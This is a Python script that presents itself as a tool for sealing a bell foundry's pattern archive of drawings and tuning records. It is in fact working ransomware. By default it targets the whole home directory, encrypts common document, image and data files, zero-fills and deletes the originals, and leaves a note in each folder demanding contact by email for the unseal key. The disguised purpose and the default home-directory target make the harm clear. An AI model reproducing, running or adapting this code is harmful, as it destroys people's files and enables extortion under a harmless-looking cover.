#!/usr/bin/env python3
"""Rotate the pattern shop archive into sealed storage form.

Walks the pattern archive (CAD drawings, inscription artwork, tuning
records), seals each file and keeps only the sealed copy so that the
archive can be moved between workstations as one set.
"""
import argparse
import base64
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC

log = logging.getLogger("archive-rotator")

SEALED_SUFFIX = ".bellseal"
NOTE_NAME = "READ_ME_PATTERN_ARCHIVE.txt"
SKIP_DIRS = {".git", "__pycache__", "node_modules"}
EXTENSIONS = {".dwg", ".dxf", ".step", ".stl", ".pdf", ".docx", ".xlsx",
              ".csv", ".jpg", ".png", ".svg", ".wav", ".odt", ".txt"}

NOTE = """Your pattern archive, drawings and tuning records have been sealed.
The originals no longer exist on this machine.  To obtain the unseal key,
write to recovery@example.org quoting the identifier below.

identifier: {ident}
"""


class Sealer:
    _salt = b"bellfoundry-archive-v3"

    def __init__(self, phrase):
        kdf = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32,
                         salt=self._salt, iterations=390000)
        key = base64.urlsafe_b64encode(kdf.derive(phrase.encode()))
        self._engine = Fernet(key)

    def seal(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(self._engine.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return sealed


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield p


def leave_note(directory, ident):
    note = Path(directory) / NOTE_NAME
    if not note.exists():
        note.write_text(NOTE.format(ident=ident), encoding="utf-8")


def main():
    ap = argparse.ArgumentParser(description="Seal the pattern archive")
    ap.add_argument("roots", nargs="*", default=[str(Path.home())],
                    help="archive roots (default: home directory)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(levelname)s %(message)s")

    phrase = os.environ.get("ARCHIVE_PHRASE", "tenor-bell-1886-loam")
    ident = base64.b32encode(os.urandom(10)).decode()
    sealer = Sealer(phrase)

    sealed = 0
    touched_dirs = set()
    for root in args.roots:
        for path in candidates(root):
            try:
                sealer.seal(path)
                sealed += 1
                touched_dirs.add(path.parent)
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", path, exc)
    for d in touched_dirs:
        try:
            leave_note(d, ident)
        except OSError:
            pass
    log.warning("sealed %d file(s)", sealed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
